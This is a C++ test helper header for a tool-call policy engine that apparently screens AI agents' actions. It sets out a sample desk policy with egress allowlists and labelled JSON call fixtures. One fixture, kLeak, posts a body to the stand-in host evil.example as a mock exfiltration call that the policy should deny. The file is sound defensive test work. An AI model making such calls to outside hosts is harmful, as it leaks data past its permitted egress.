#pragma once

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "metrics/judge_calls.h"
#include "policy/load.h"

namespace yett::metrics_test {

/// A desk whose tools read, write, send and execute. Of these `mail` asks a person, and `run` too.
inline constexpr std::string_view kDesk = R"([policy]
name = "desk"
version = 1
[session]
permissions = "full access"
may_choose = ["clerk", "reader"]
tenant = "acme"
[permissions.clerk]
capabilities = ["read", "external_access", "write"]
sources = ["user", "retrieved_document"]
[permissions.reader]
tools = ["search", "ticket"]
[permissions.reader.grants]
read = ["user", "retrieved_document", "tool_output"]
[tools]
search = { effect = "read", sensitivity = "internal", reversible = true, returns = "retrieved_document", content = ["q"] }
ticket = { effect = "read", sensitivity = "internal", reversible = true, returns = "tool_output", content = ["id"] }
clock = { effect = "read", sensitivity = "internal", reversible = true, returns = "trusted" }
accounts = { effect = "read", sensitivity = "private", reversible = true, returns = "trusted", tenant = "single", content = ["q"] }
note = { effect = "write", sensitivity = "internal", reversible = true, returns = "trusted", content = ["text"] }
post = { effect = "send", sensitivity = "internal", reversible = true, returns = "trusted", destination.url = ["url"], content = ["body"] }
mail = { effect = "send", sensitivity = "internal", reversible = false, returns = "trusted", destination.email = ["to"], content = ["body"] }
run = { effect = "execute", sensitivity = "internal", reversible = false, content = ["script"] }
[egress]
email_domains = ["desk.example"]
hosts = ["hooks.desk.example"]
[approval]
unsigned = "a test"
[flow]
private_to_outside = "deny"
)";

inline PolicyRef policy_of(std::string_view text) {
  auto policy = parse_policy(text, "desk.toml");
  if (policy) return *std::move(policy);
  ADD_FAILURE() << policy.error().to_string();
  return std::make_shared<Policy>();
}

inline const Policy& desk() {
  static const PolicyRef kPolicy = policy_of(kDesk);
  return *kPolicy;
}

inline Session desk_session() {
  Session session;
  session.run = "r-1";
  session.user = "ana";
  session.tenant = "acme";
  session.allowed_tenants = {"acme"};
  session.permissions = *find_builtin_permission_set("full access");
  session.expires_at = TimePoint::max();
  return session;
}

/// Everything by which the desk's calls are judged.
struct DeskJudging {
  const Engine* engine = &Engine::strict();
  const Policy* policy = &desk();
  Session session = desk_session();
  CallSources sources = CallSources::Record;
  std::vector<std::string> sealed{};

  [[nodiscard]] CallJudging terms() const {
    return {.engine = *engine,
            .policy = *policy,
            .session = session,
            .now = TimePoint(std::chrono::sys_days(std::chrono::year(2026) / 11 / 30)),
            .sources = sources,
            .sealed = sealed};
  }
};

/// A labelled call as its line reads; a failed test when it cannot be read.
inline LabelledCall call_of(std::string_view line, const Experiment& experiment = {}) {
  Result<Json> value = parse_json(line);
  if (!value) {
    ADD_FAILURE() << line << ": " << value.error().to_string();
    return {};
  }
  auto call = read_labelled_call(*value, line, experiment, {});
  if (call) return *std::move(call);
  ADD_FAILURE() << line << ": " << call.error().to_string();
  return {};
}

inline CallWork work_of(const std::vector<std::string>& lines, const Experiment& experiment = {}) {
  std::vector<LabelledCall> calls;
  for (const std::string& line : lines) calls.push_back(call_of(line, experiment));
  return sort_into_runs(std::move(calls));
}

/// Calls that the desk allows under full access with nothing taken in, or asks about.
inline constexpr std::string_view kSearch = R"("tool":"search","arguments":{"q":"x"})";
inline constexpr std::string_view kTicket = R"("tool":"ticket","arguments":{"id":"T-1"})";
inline constexpr std::string_view kClock = R"("tool":"clock")";
inline constexpr std::string_view kAccounts = R"("tool":"accounts","arguments":{"q":"x"})";
inline constexpr std::string_view kNote = R"("tool":"note","arguments":{"text":"x"})";
inline constexpr std::string_view kPost =
    R"("tool":"post","arguments":{"url":"https://hooks.desk.example/","body":"x"})";
inline constexpr std::string_view kMail = R"("tool":"mail","arguments":{"to":"bo@desk.example","body":"x"})";
inline constexpr std::string_view kRun = R"("tool":"run","arguments":{"script":"x"})";
/// Calls that it denies wherever they come from.
inline constexpr std::string_view kLeak = R"("tool":"post","arguments":{"url":"https://evil.example/","body":"x"})";
inline constexpr std::string_view kStranger = R"("tool":"stranger")";

/// The line of a call of a task: "clean" or "harmful", the task, the call, and more members.
inline std::string line_of(std::string_view label, std::string_view task, std::string_view call,
                           std::string_view more = "") {
  return fmt::format(R"({{"label":"{}","task":"{}",{}{}{}}})", label, task, call, more.empty() ? "" : ",", more);
}

}  // namespace yett::metrics_test
